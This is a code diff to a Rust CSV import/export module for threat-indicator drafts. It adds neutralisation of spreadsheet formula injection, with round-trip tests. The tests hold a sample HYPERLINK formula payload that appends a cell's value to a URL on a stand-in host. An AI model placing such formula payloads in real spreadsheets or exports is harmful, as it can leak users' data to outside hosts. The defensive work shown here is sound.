@@ -5,6 +5,11 @@
 //! `versions`, `affected_purls`, `related`) take `;`-separated values.
 //! Every row is validated before anything is sent; a bad row is reported
 //! with its line number and nothing is published unless `skip_invalid`.
+//!
+//! [`cell`] is the one way a value becomes a CSV cell (`export --format
+//! csv` and the console's CSV copy both go through it): a value a
+//! spreadsheet would read as a formula gets a leading `'`, which this
+//! reader takes off again, so what `export` writes comes back unchanged.
 
 use crate::draft::IndicatorDraft;
 use crate::error::AgentError;
@@ -59,6 +64,42 @@ pub fn parse_records(text: &str) -> Result<Vec<(usize, Vec<String>)>, String> {
         records.push((record_line, fields));
     }
     Ok(records)
+}
+
+/// First characters that make a spreadsheet read a cell as a formula
+/// (OWASP "CSV Injection": `=`, `+`, `-`, `@`, tab, carriage return).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `v` is a value [`cell`] neutralises: it starts with a formula
+/// character, after any number of `'` (so that a value that already starts
+/// with `'` and a formula character gets one more `'`, and [`unneutralise`]
+/// gives back exactly what was written).
+fn needs_neutralising(v: &str) -> bool {
+    v.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// One value as a CSV cell (RFC 4180), safe to open in a spreadsheet: a
+/// value that starts with `=`, `+`, `-`, `@`, tab or carriage return (after
+/// any leading `'`) gets a `'` in front and is quoted, so it is shown as
+/// text and never run as a formula; a value with a comma, quote or line
+/// break is quoted. [`unneutralise`] is the inverse for the first rule.
+pub fn cell(v: &str) -> String {
+    if needs_neutralising(v) {
+        format!("\"'{}\"", v.replace('"', "\"\""))
+    } else if v.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", v.replace('"', "\"\""))
+    } else {
+        v.to_owned()
+    }
+}
+
+/// A cell's value as [`cell`] was given it: the `'` that `cell` put in
+/// front of a formula character is taken off. A `'` anywhere else stays.
+pub fn unneutralise(v: &str) -> &str {
+    match v.strip_prefix('\'') {
+        Some(rest) if needs_neutralising(rest) => rest,
+        _ => v,
+    }
 }
 
 fn list(v: &str) -> Option<Vec<String>> {
@@ -143,7 +184,7 @@ pub fn drafts_from_csv(text: &str) -> Result<Vec<Row>, AgentError> {
         let mut d = IndicatorDraft::default();
         let mut problem = None;
         for (name, value) in header.iter().zip(fields) {
-            let v = value.trim().to_owned();
+            let v = unneutralise(&value).trim().to_owned();
             if v.is_empty() {
                 continue;
             }
@@ -216,6 +257,61 @@ mod tests {
         );
         assert!(parse_records("a\n\"open").is_err());
         assert!(parse_records("a\nb\"c").is_err());
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_read_back_unchanged() {
+        for (value, written) in [
+            (
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
+            ),
+            ("+1", "\"'+1\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(A1)", "\"'@SUM(A1)\""),
+            ("\tcmd", "\"'\tcmd\""),
+            ("\rcmd", "\"'\rcmd\""),
+            // A value that already looks neutralised gets one more quote.
+            ("'=1", "\"''=1\""),
+            ("''-x", "\"'''-x\""),
+            // Nothing to do: plain text, a quote before text, a formula
+            // character later on.
+            ("evil package", "evil package"),
+            ("'quoted'", "'quoted'"),
+            ("a=b", "a=b"),
+            ("", ""),
+            ("a, b", "\"a, b\""),
+            ("say \"hi\"", "\"say \"\"hi\"\"\""),
+        ] {
+            let c = cell(value);
+            assert_eq!(c, written, "{value:?}");
+            // What a reader gets back: the parsed field, unneutralised.
+            let parsed = parse_records(&format!("{c}\n")).unwrap();
+            let field = parsed.first().map_or("", |r| r.1[0].as_str());
+            assert_eq!(unneutralise(field), value, "{value:?} via {c:?}");
+        }
+        // Only a quote our export wrote is taken off.
+        assert_eq!(unneutralise("'hello"), "'hello");
+        assert_eq!(unneutralise("'"), "'");
+    }
+
+    #[test]
+    fn an_exported_formula_title_imports_as_the_title() {
+        let title = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
+        let text = format!(
+            "kind,domain,tlp,title,description,labels\nnetwork,c2.evil.example,green,{},{},{}\n",
+            cell(title),
+            cell("- first point\n- second"),
+            cell("-tag;x")
+        );
+        let rows = drafts_from_csv(&text).unwrap();
+        let d = rows[0].1.as_ref().unwrap();
+        assert_eq!(d.title.as_deref(), Some(title));
+        assert_eq!(d.description.as_deref(), Some("- first point\n- second"));
+        assert_eq!(
+            d.labels.as_deref(),
+            Some(&["-tag".to_string(), "x".to_string()][..])
+        );
     }
 
     #[test]
